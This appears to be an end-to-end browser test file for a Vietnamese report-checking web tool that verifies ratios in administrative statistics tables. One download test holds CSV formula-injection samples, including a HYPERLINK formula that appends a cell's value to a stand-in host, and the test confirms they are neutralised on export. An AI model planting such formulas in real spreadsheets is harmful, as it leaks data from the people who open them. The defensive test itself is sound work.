// The page as an official uses it: paste, read the marks, open a cell, try an edit, filter,
// the example, keyboard and zoom.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { serverAndBrowser, SEED, assertSeedCounts, SCREENSHOTS, openApp, paste, after, counts, markOf, cellsMarked, eventually, parseCsv, spreadsheetWouldRun } from './helpers.mjs';

const env = serverAndBrowser();

/** A fresh page with an empty device (new context = empty localStorage), no service worker. */
async function fresh(viewport = { width: 1366, height: 900 }) {
  const context = await env.browser.newContext({ viewport, serviceWorkers: 'block' });
  const page = await openApp(context, env.server.url);
  return { context, page };
}

// The B03 rows as Word puts them on the clipboard: a two-row header with merged cells, Word's
// paragraphs and spans inside cells, non-breaking spaces, and one wrong ratio (3.3: 42.063 / 42.159
// is 99,77 %, printed 99,87).
const WORD_HTML = `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta charset="utf-8"><style>p.MsoNormal{margin:0cm;font-family:"Times New Roman"}</style></head>
<body lang=VI><!--StartFragment-->
<p class=MsoNormal align=center><b><span lang=VI>Biểu mẫu số 03<o:p></o:p></span></b></p>
<p class=MsoNormal align=center><span lang=VI>Cải cách thủ tục hành chính<o:p></o:p></span></p>
<table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0>
 <tr>
  <td rowspan=2 valign=top><p class=MsoNormal align=center><b>STT<o:p></o:p></b></p></td>
  <td rowspan=2 valign=top><p class=MsoNormal><b>Chỉ tiêu thống kê</b></p><p class=MsoNormal><i>(Sử dụng trong báo cáo hàng quý, 06 tháng, năm)</i></p></td>
  <td colspan=2 valign=top><p class=MsoNormal align=center><b>Kết quả thống kê</b></p></td>
  <td rowspan=2 valign=top><p class=MsoNormal align=center><b>Ghi chú</b></p></td>
 </tr>
 <tr>
  <td><p class=MsoNormal align=center><b>Đơn vị tính</b></p></td>
  <td><p class=MsoNormal align=center><b>Số liệu</b></p></td>
 </tr>
 <tr><td><p class=MsoNormal>3.</p></td><td><p class=MsoNormal><b>Kết quả giải quyết TTHC</b></p></td><td></td><td></td><td></td></tr>
 <tr><td><p class=MsoNormal>3.1.</p></td><td><p class=MsoNormal>Tỷ lệ hồ sơ TTHC do các sở, ngành tiếp nhận được tiếp nhận đúng hạn</p></td><td><p class=MsoNormal align=center>%</p></td><td><p class=MsoNormal align=right>99,59</p></td><td></td></tr>
 <tr><td><p class=MsoNormal>3.1.1.</p></td><td><p class=MsoNormal>Tổng số TTHC đã giải quyết xong</p></td><td><p class=MsoNormal>Hồ sơ</p></td><td><p class=MsoNormal align=right>66.959</p></td><td></td></tr>
 <tr><td><p class=MsoNormal>3.1.2.</p></td><td><p class=MsoNormal>Số hồ sơ TTHC đã giải quyết đúng hạn</p></td><td><p class=MsoNormal>Hồ sơ</p></td><td><p class=MsoNormal align=right>66.687</p></td><td></td></tr>
 <tr><td><p class=MsoNormal>3.2.</p></td><td><p class=MsoNormal>Tỷ lệ hồ sơ TTHC do UBND cấp huyện tiếp nhận được giải quyết đúng hạn</p></td><td><p class=MsoNormal>%</p></td><td><p class=MsoNormal align=right>98,90</p></td><td><p class=MsoNormal>Số liệu</p><p class=MsoNormal>"tạm tính"&nbsp;đến 15/9</p></td></tr>
 <tr><td><p class=MsoNormal>3.2.1.</p></td><td><p class=MsoNormal>Tổng số TTHC đã giải quyết xong</p></td><td><p class=MsoNormal>Hồ sơ</p></td><td><p class=MsoNormal align=right>11.443</p></td><td></td></tr>
 <tr><td><p class=MsoNormal>3.2.2.</p></td><td><p class=MsoNormal>Số hồ sơ TTHC đã giải quyết đúng hạn</p></td><td><p class=MsoNormal>Hồ sơ</p></td><td><p class=MsoNormal align=right>11.317</p></td><td></td></tr>
 <tr><td><p class=MsoNormal>3.3.</p></td><td><p class=MsoNormal>Tỷ lệ hồ sơ TTHC do UBND cấp xã tiếp nhận được giải quyết đúng hạn</p></td><td><p class=MsoNormal>%</p></td><td><p class=MsoNormal align=right>99,87</p></td><td></td></tr>
 <tr><td><p class=MsoNormal>3.3.1.</p></td><td><p class=MsoNormal>Tổng số TTHC đã giải quyết xong</p></td><td><p class=MsoNormal>Hồ sơ</p></td><td><p class=MsoNormal align=right>42.159</p></td><td></td></tr>
 <tr><td><p class=MsoNormal>3.3.2.</p></td><td><p class=MsoNormal>Số hồ sơ TTHC đã giải quyết đúng hạn</p></td><td><p class=MsoNormal>Hồ sơ</p></td><td><p class=MsoNormal align=right>42.063</p></td><td></td></tr>
</table>
<!--EndFragment--></body></html>`;

// Word's plain flavour of the same copy loses the merged header; here it also differs in the wrong
// figure, so the test can tell which flavour the page used.
const WORD_PLAIN = 'Biểu mẫu số 03\n3.3.\tTỷ lệ hồ sơ TTHC do UBND cấp xã\t%\t99,77\n3.3.1.\tTổng số\tHồ sơ\t42.159\n3.3.2.\tĐúng hạn\tHồ sơ\t42.063\n';

test('pasting the seed report shows its 7 forms, no failure, and the two 0/0 ratios as warnings', async () => {
  const { context, page } = await fresh();
  const summary = await after(page, () => paste(page, { plain: SEED }));
  // The counts include the narrative's checks (two of its sentences are warned too).
  assertSeedCounts(summary);
  await assert.doesNotReject(page.getByText('Các bảng không có lỗi tính toán, nhưng lời văn có 2 chỗ không khớp với số liệu. Có 2 cảnh báo cần xem lại.').waitFor());

  const headings = await page.locator('.ks-form-h .ks-form-no').allInnerTexts();
  assert.deepEqual(headings, ['Biểu mẫu số 01', 'Biểu mẫu số 02', 'Biểu mẫu số 03', 'Biểu mẫu số 04', 'Biểu mẫu số 05', 'Biểu mẫu số 06', 'Biểu mẫu số 07']);
  for (const h of await page.locator('.ks-form').all()) assert.ok(await h.isVisible());

  assert.deepEqual(await cellsMarked(page, 'fail'), []);
  // Only the figures' own checks mark them: the sentence that disagrees with B01/3.2 does not.
  assert.deepEqual((await cellsMarked(page, 'warn')).sort(), ['B01/3.3', 'B02/2.2']);
  assert.equal(await markOf(page, 'B01/3.3'), 'Cảnh báo');
  assert.equal(await markOf(page, 'B02/2.2'), 'Cảnh báo');
  // A passing figure: icon and a word for screen readers, not colour alone.
  assert.equal(await markOf(page, 'B01/2'), 'Đạt');
  assert.equal(await page.locator('tr[data-cell="B01/2"] .ks-mark svg').count(), 1);
  // The problems list names the two disagreements in words; the two 0/0 printed as 0 are
  // advice, folded below them (issue 12).
  const problems = await page.locator('.ks-problems > .ks-problem-list > .ks-problem').allInnerTexts();
  assert.equal(problems.length, 2);
  assert.match(problems[0], /^Cảnh báo · Lời văn, dòng 37 — so với Biểu mẫu số 01, STT 3\.2/);
  assert.match(problems[1], /^Cảnh báo · Lời văn, dòng 369\n/);
  await page.locator('.ks-advice > summary').click();
  const advice = await page.locator('.ks-advice .ks-problem').allInnerTexts();
  assert.equal(advice.length, 2);
  assert.match(advice[0], /Cảnh báo · Biểu mẫu số 01, STT 3\.3/);
  assert.match(advice[0], /0\/0 không xác định/);

  await page.screenshot({ path: join(SCREENSHOTS, 'seed-results.png') });
  await page.locator('#results').screenshot({ path: join(SCREENSHOTS, 'seed-results-full.png') });
  assert.deepEqual(page.errors, []);
  await context.close();
});

test('a Word table with merged header cells: exactly the wrong ratio fails, and its expected value is shown', async () => {
  const { context, page } = await fresh();
  const summary = await after(page, () => paste(page, { html: WORD_HTML, plain: WORD_PLAIN }));
  assert.equal(summary?.fail, 1);
  assert.deepEqual(await cellsMarked(page, 'fail'), ['B03/3.3']);
  assert.equal(await markOf(page, 'B03/3.3'), 'Lỗi');
  for (const cell of ['B03/3.1', 'B03/3.2']) assert.equal(await markOf(page, cell), 'Đạt');
  // The merged header became a grid: the text box holds TSV with the header in two rows.
  const text = await page.locator('#input').inputValue();
  assert.match(text, /^Biểu mẫu số 03\nCải cách thủ tục hành chính\n\nSTT\t"Chỉ tiêu thống kê\n\(Sử dụng trong báo cáo hàng quý, 06 tháng, năm\)"\tKết quả thống kê\t\tGhi chú\n\t\tĐơn vị tính\tSố liệu\t\n/);
  assert.match(text, /3\.2\.\tTỷ lệ hồ sơ TTHC do UBND cấp huyện tiếp nhận được giải quyết đúng hạn\t%\t98,90\t"Số liệu\n""tạm tính"" đến 15\/9"/);

  // Select the failed figure: its check with the numbers appears, and its parts are highlighted.
  await page.locator('tr[data-cell="B03/3.3"] .ks-input').click();
  const detail = page.locator('#detail');
  await eventually(async () => (await detail.innerText()).includes('Chi tiết ô B03/3.3'));
  const detailText = await detail.innerText();
  assert.match(detailText, /Lỗi\s*·\s*Tỷ lệ/);
  assert.match(detailText, /Phép tính\s+42\.063 \/ 42\.159 × 100/);
  assert.match(detailText, /Số ghi trong báo cáo\s+99,87/);
  assert.match(detailText, /Số đúng\s+99,77/);
  assert.match(detailText, /Chênh lệch\s+\+0,10/);
  assert.deepEqual(
    (await page.locator('tr.ks-related').evaluateAll((rows) => rows.map((r) => r.getAttribute('data-cell')))).sort(),
    ['B03/3.3.1', 'B03/3.3.2'],
  );
  await page.screenshot({ path: join(SCREENSHOTS, 'failed-cell.png') });
  assert.deepEqual(page.errors, []);
  await context.close();
});

test('editing a figure in the table re-runs every check: B03/3.1.2 66.687 → 66.678 makes B03/3.1 fail', async () => {
  const { context, page } = await fresh();
  await after(page, () => paste(page, { plain: SEED }));
  assert.equal(await markOf(page, 'B03/3.1'), 'Đạt');
  const input = page.locator('tr[data-cell="B03/3.1.2"] .ks-input');
  const summary = await after(page, () => input.fill('66.678'));
  assert.equal(summary?.fail, 1);
  assert.equal(await markOf(page, 'B03/3.1'), 'Lỗi');
  assert.deepEqual(await cellsMarked(page, 'fail'), ['B03/3.1']);
  assert.match(await page.locator('#edits-bar').innerText(), /Đang thử với 1 số liệu đã sửa/);
  assert.equal(await page.locator('tr[data-cell="B03/3.1.2"] .ks-edited-tag').isVisible(), true);
  // The edited cell keeps its focus and caret while the checks re-run.
  assert.equal(await input.evaluate((el) => el === document.activeElement), true);
  // Its details tell the original figure; the ratio's details show the new expected value.
  assert.match(await page.locator('#detail').innerText(), /Số gốc trong báo cáo: 66\.687/);
  await page.locator('tr[data-cell="B03/3.1"] .ks-input').focus();
  assert.match(await page.locator('#detail').innerText(), /Số đúng\s+99,58/);
  await page.screenshot({ path: join(SCREENSHOTS, 'what-if-edit.png') });

  // Escape on the edited cell, or "Bỏ mọi sửa đổi", goes back to the report's figure.
  const back = await after(page, () => page.getByRole('button', { name: 'Bỏ mọi sửa đổi' }).click());
  assert.equal(back?.fail, 0);
  assert.equal(await markOf(page, 'B03/3.1'), 'Đạt');
  assert.equal(await input.inputValue(), '66.687');
  assert.equal(await page.locator('#edits-bar').isVisible(), false);
  await context.close();
});

test('the example button loads the sample report and checks it', async () => {
  const { context, page } = await fresh();
  assert.match(await page.locator('#empty').innerText(), /Chưa có gì để kiểm tra/);
  const summary = await after(page, () => page.getByRole('button', { name: 'Dùng báo cáo mẫu' }).click());
  assertSeedCounts(summary);
  assert.equal(await page.locator('.ks-form').count(), 7);
  assert.match(await page.locator('#input').inputValue(), /tỉnh Khánh Hòa/);
  assert.equal(await page.locator('#empty').isVisible(), false);
  await context.close();
});

test('"only problems" shows the problem rows and the rows they are computed from', async () => {
  const { context, page } = await fresh();
  await after(page, () => paste(page, { plain: SEED }));
  await page.getByLabel(/Chỉ hiện dòng có lỗi hoặc cảnh báo/).check();
  const visible = await page.locator('tbody tr').evaluateAll((rows) =>
    rows.filter((r) => /** @type {HTMLElement} */ (r).offsetParent !== null).map((r) => r.getAttribute('data-cell')));
  // B01/3.2 shows for the sentence that disagrees with it, tagged «Lời văn nói khác».
  assert.deepEqual(visible.sort(), ['B01/3.2', 'B01/3.3', 'B01/3.3.1', 'B01/3.3.2', 'B02/2.2', 'B02/2.2.1', 'B02/2.2.2']);
  assert.equal(await page.locator('tr[data-cell="B01/3.2"] .ks-told-tag').innerText(), 'Lời văn nói khác');
  assert.equal(await page.locator('.ks-form[data-form="B03"] .ks-clean-msg').isVisible(), true);
  assert.equal(await page.locator('.ks-form[data-form="B03"] table').isVisible(), false);
  await page.getByLabel(/Chỉ hiện dòng có lỗi hoặc cảnh báo/).uncheck();
  assert.ok((await page.locator('tbody tr').evaluateAll((rows) => rows.filter((r) => /** @type {HTMLElement} */ (r).offsetParent !== null).length)) > 100);
  await context.close();
});

test('keyboard: a problem link goes to its cell; arrow keys move between figures and the details follow', async () => {
  const { context, page } = await fresh();
  await after(page, () => paste(page, { plain: SEED }));
  // The seed's figures with a problem are its two 0/0 printed as 0: advice, folded (issue 12).
  await page.locator('.ks-advice > summary').click();
  await page.locator('.ks-advice .ks-problem .ks-link').first().focus();
  await page.keyboard.press('Enter');
  const focused = () => page.evaluate(() => document.activeElement?.getAttribute('data-cell'));
  assert.equal(await focused(), 'B01/3.3');
  assert.match(await page.locator('#detail').innerText(), /Chi tiết ô B01\/3\.3[\s\S]*Cảnh báo\s*·\s*Tỷ lệ/);
  await page.keyboard.press('ArrowDown');
  assert.equal(await focused(), 'B01/3.3.1');
  assert.match(await page.locator('#detail').innerText(), /Chi tiết ô B01\/3\.3\.1/);
  assert.match(await page.locator('#detail').innerText(), /Ô này cũng được dùng để kiểm tra/);
  await page.keyboard.press('ArrowUp');
  assert.equal(await focused(), 'B01/3.3');
  // The focused figure is visibly outlined.
  const outline = await page.evaluate(() => getComputedStyle(/** @type {Element} */ (document.activeElement)).outlineStyle);
  assert.equal(outline, 'solid');
  await context.close();
});

test('at 200% zoom (1366×768 laptop) nothing needs sideways scrolling and the tables become readable cards', async () => {
  const { context, page } = await fresh({ width: 683, height: 384 });
  await after(page, () => paste(page, { plain: SEED }));
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  assert.ok(overflow <= 0, `page scrolls sideways by ${overflow}px`);
  const display = await page.locator('tr[data-cell="B01/2"]').evaluate((tr) => getComputedStyle(tr).display);
  assert.equal(display, 'grid');
  await page.locator('tr[data-cell="B01/3.3"] .ks-input').focus();
  assert.ok(await page.locator('#detail').isVisible());
  await page.screenshot({ path: join(SCREENSHOTS, 'zoom-200.png') });
  await context.close();
});

test('unusable input is explained in Vietnamese next to the text box and in an error summary; the page keeps the last results', async () => {
  const { context, page } = await fresh();
  await after(page, () => paste(page, { plain: SEED }));
  await after(page, () => page.locator('#input').fill('Biểu mẫu số 01\n1.\tSố văn bản\tVăn bản\t14\u0000\n'));
  const box = page.locator('#input-problems');
  assert.equal(await box.isVisible(), true);
  assert.match(await box.innerText(), /Có vấn đề với dữ liệu nhập[\s\S]*ký tự nhị phân/);
  assert.match(await page.locator('#input-error').innerText(), /ký tự nhị phân/);
  assert.equal(await page.locator('#input').getAttribute('aria-invalid'), 'true');
  // Not blank: the last results stay, marked as belonging to the previous check.
  assert.equal(await page.locator('#stale').isVisible(), true);
  assert.equal(await page.locator('.ks-form').count(), 7);
  await page.screenshot({ path: join(SCREENSHOTS, 'input-error.png') });
  // Fixing the text clears the message.
  await after(page, () => page.locator('#input').fill(SEED));
  assert.equal(await box.isVisible(), false);
  assert.equal(await page.locator('#input').getAttribute('aria-invalid'), null);
  await context.close();
});

test('notices about the input are listed with their line, which the link selects in the text box', async () => {
  const { context, page } = await fresh();
  const text = 'Biểu mẫu số 01\nSTT\tChỉ tiêu\tĐơn vị tính\tSố liệu\tGhi chú\n1.\tSố văn bản chỉ đạo CCHC đã ban hành\tVăn bản\t14\t\nabc\tdòng lạc\tVăn bản\t3\t\n';
  await after(page, () => page.locator('#input').fill(text));
  const box = page.locator('#input-problems');
  await eventually(() => box.isVisible());
  const listed = await box.innerText();
  assert.match(listed, /Lưu ý về dữ liệu nhập/);
  const link = box.locator('a').filter({ hasText: /^Dòng \d+:/ }).first();
  const line = Number(/Dòng (\d+)/.exec(await link.innerText())?.[1]);
  await link.click();
  const selected = await page.locator('#input').evaluate((el) => {
    const t = /** @type {HTMLTextAreaElement} */ (el);
    return t.value.slice(t.selectionStart, t.selectionEnd);
  });
  assert.equal(selected, text.split('\n')[line - 1]);
  await context.close();
});

test('opening a file: text files fill the text box; Word/Excel go to checkFile or get a clear message', async () => {
  const { context, page } = await fresh();
  const summary = await after(page, () => page.locator('#file').setInputFiles({ name: 'bao-cao.txt', mimeType: 'text/plain', buffer: Buffer.from(SEED) }));
  assertSeedCounts(summary);
  assert.match(await page.locator('#input').inputValue(), /Biểu mẫu số 07/);

  const hasCheckFile = await page.evaluate(() => document.documentElement.dataset.checkFile === 'true');
  const docx = { name: 'bao-cao.docx', mimeType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', buffer: Buffer.from('PK\u0003\u0004 not really a docx') };
  await page.locator('#file').setInputFiles(docx);
  const box = page.locator('#input-problems');
  if (!hasCheckFile) {
    await eventually(() => box.isVisible());
    assert.match(await box.innerText(), /chưa đọc được tệp DOCX \(bao-cao\.docx\)[\s\S]*Ctrl\+C/);
  } else {
    // The file reader answers: results, or its own explanation of why the file is unreadable.
    await eventually(async () => (await box.isVisible()) || (await page.locator('#file-chip').isVisible()));
  }
  // Either way the earlier results are still on the page.
  assert.equal(await page.locator('.ks-form').count() > 0, true);
  await context.close();
});

test('the summary counts match the checks listed in the CSV and JSON downloads', async () => {
  const { context, page } = await fresh();
  await after(page, () => paste(page, { plain: SEED }));
  const shown = await counts(page);
  const [csv] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Tải CSV' }).click()]);
  assert.match(csv.suggestedFilename(), /^kiemso-ket-qua-\d{4}-\d{2}-\d{2}-\d{4}\.csv$/);
  const csvText = (await import('node:fs')).readFileSync(/** @type {string} */ (await csv.path()), 'utf8');
  // Fields separated by ';' (Excel set to Vietnamese splits on it), the problems only.
  assert.ok(csvText.startsWith('\uFEFFBiểu mẫu;Ô;STT;Chỉ tiêu'));
  const lines = csvText.trim().split('\r\n');
  assert.equal(lines.length, 1 + shown.fail + shown.warn);
  assert.equal(lines.filter((l) => l.includes(';Cảnh báo;')).length, shown.warn);
  assert.ok(lines.some((l) => l.startsWith('Biểu mẫu số 01;B01/3.3;3.3;')));
  const [every] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'CSV mọi kiểm tra' }).click()]);
  const everyText = (await import('node:fs')).readFileSync(/** @type {string} */ (await every.path()), 'utf8');
  assert.equal(everyText.trim().split('\r\n').length, 1 + shown.fail + shown.warn + shown.pass + shown.na);

  const [json] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Tải JSON' }).click()]);
  const data = JSON.parse((await import('node:fs')).readFileSync(/** @type {string} */ (await json.path()), 'utf8'));
  assert.deepEqual(data.summary, shown);
  assert.equal(data.forms.length, 7);
  assert.ok(Array.isArray(data.checks) && data.checks.every((/** @type {any} */ c) => typeof c.message === 'string'));
  await context.close();
});

test('downloads after a what-if edit carry the printed figure and the edit; hostile text reaches Excel inert', async () => {
  const { context, page } = await fresh();
  // Another unit's table whose indicator is a formula (it would become a live link in Excel).
  const hostile = 'Biểu mẫu số 01\nSTT\tChỉ tiêu\tĐơn vị tính\tSố liệu\tGhi chú\n' +
    '2.\t=HYPERLINK("http://x.example/?"&D3,"Bấm vào đây")\t%\t31,14\t\n2.1.\t@SUM(1+1)\tNhiệm vụ\t61\t\n2.2.\t+Số nhiệm vụ đã hoàn thành\tNhiệm vụ\t19\t\n';
  await after(page, () => paste(page, { plain: `${SEED}\n${hostile}` }));
  await after(page, () => page.locator('tr[data-cell="B03/3.1.2"] .ks-input').fill('66.678'));
  const fs = await import('node:fs');
  // Every check, so that the edited cell's own (passing) checks are there too.
  const [csv] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'CSV mọi kiểm tra' }).click()]);
  const csvText = fs.readFileSync(/** @type {string} */ (await csv.path()), 'utf8');
  const rows = parseCsv(csvText);
  const header = rows[0];
  const [value, printed, tried] = ['Số liệu', 'Số liệu gốc (in trong báo cáo)', 'Thử sửa'].map((c) => header.indexOf(c));
  assert.ok(value === 5 && printed > 0 && tried > 0, header.join(' | '));
  // The ratio checked with the edited figure says so, with both figures.
  const ratio = rows.find((r) => r[1] === 'B03/3.1');
  assert.match(String(ratio?.[tried]), /B03\/3\.1\.2: 66\.687 → 66\.678/);
  // The edited cell's own checks give the printed figure beside the tried one.
  const own = rows.find((r) => r[1] === 'B03/3.1.2');
  assert.deepEqual([own?.[value], own?.[printed]], ['66.678', '66.687']);
  // No field could run in a spreadsheet; the hostile indicator is kept, inert.
  for (const f of rows.flat()) assert.ok(!spreadsheetWouldRun(f), `a field a spreadsheet would run: ${JSON.stringify(f)}`);
  assert.ok(rows.some((r) => r[3] === '\'=HYPERLINK("http://x.example/?"&D3,"Bấm vào đây")'));

  const [json] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Tải JSON' }).click()]);
  const data = JSON.parse(fs.readFileSync(/** @type {string} */ (await json.path()), 'utf8'));
  const row = data.forms.flatMap((/** @type {any} */ f) => f.table).find((/** @type {any} */ r) => r.cell === 'B03/3.1.2');
  assert.deepEqual([row.value, row.original, row.edited], ['66.678', '66.687', true]);
  assert.deepEqual(data.edits, [{ cell: 'B03/3.1.2', original: '66.687', value: '66.678' }]);
  await context.close();
});

test('"Chép tóm tắt" puts a short text summary on the clipboard', async () => {
  const context = await env.browser.newContext({ serviceWorkers: 'block' });
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(env.server.url).origin });
  const page = await openApp(context, env.server.url);
  await after(page, () => paste(page, { plain: SEED }));
  await page.getByRole('button', { name: 'Chép tóm tắt' }).click();
  await eventually(async () => (await page.locator('#status').innerText()).includes('Đã chép tóm tắt'));
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  assert.match(copied, /^Kiểm số — kết quả kiểm tra số liệu/);
  assert.match(copied, /7 bảng, \d+ phép kiểm tra \(169 trên bảng, \d+ trong lời văn\): 0 lỗi, 4 cảnh báo, \d+ đạt, 0 không tính được\./);
  // The unit and the period of the report, and the row named once («dòng 3.3: Dòng 3.3» no more).
  assert.match(copied, /\nĐơn vị báo cáo: Ủy ban nhân dân tỉnh Khánh Hòa\nKỳ báo cáo: Quý III\/2024\n/);
  assert.match(copied, /Cảnh báo \(4\):\n- Biểu mẫu số 01: Dòng 3\.3 /);
  assert.doesNotMatch(copied, /dòng ([\d.]+): Dòng \1\b/i);
  assert.match(copied, /\n- Lời văn \(dòng 37\): Câu «Triển khai Kế hoạch/);
  assert.match(copied, /\n- Lời văn \(dòng 369\): Câu «…53 cơ quan cấp tỉnh/);
  await context.close();
});

test('the print view fits A4: only the results, all problems listed, figures as text', async () => {
  const { context, page } = await fresh({ width: 1366, height: 900 });
  await after(page, () => paste(page, { html: WORD_HTML, plain: WORD_PLAIN }));
  await page.emulateMedia({ media: 'print' });
  await page.setViewportSize({ width: 718, height: 1000 }); // A4 width less the page margins, at 96 dpi
  for (const hidden of ['.input-panel', '.toolbar', '#detail', '.masthead']) {
    assert.equal(await page.locator(hidden).isVisible(), false, `${hidden} should not print`);
  }
  assert.equal(await page.locator('tr[data-cell="B03/3.3"] .ks-print').innerText(), '99,87');
  assert.equal(await page.locator('tr[data-cell="B03/3.3"] .ks-input').isVisible(), false);
  assert.match(await page.locator('tr[data-cell="B03/3.3"] .ks-mark').innerText(), /Lỗi/);
  assert.match(await page.locator('#print-head').innerText(), /Kiểm số — kết quả kiểm tra lúc/);
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  assert.ok(overflow <= 0, `print layout is ${overflow}px wider than A4`);
  const pdf = await page.pdf({ path: join(SCREENSHOTS, 'print.pdf'), format: 'A4', printBackground: true, preferCSSPageSize: true });
  assert.ok(pdf.length > 10000);
  await page.screenshot({ path: join(SCREENSHOTS, 'print-view.png'), fullPage: true });
  await context.close();
});
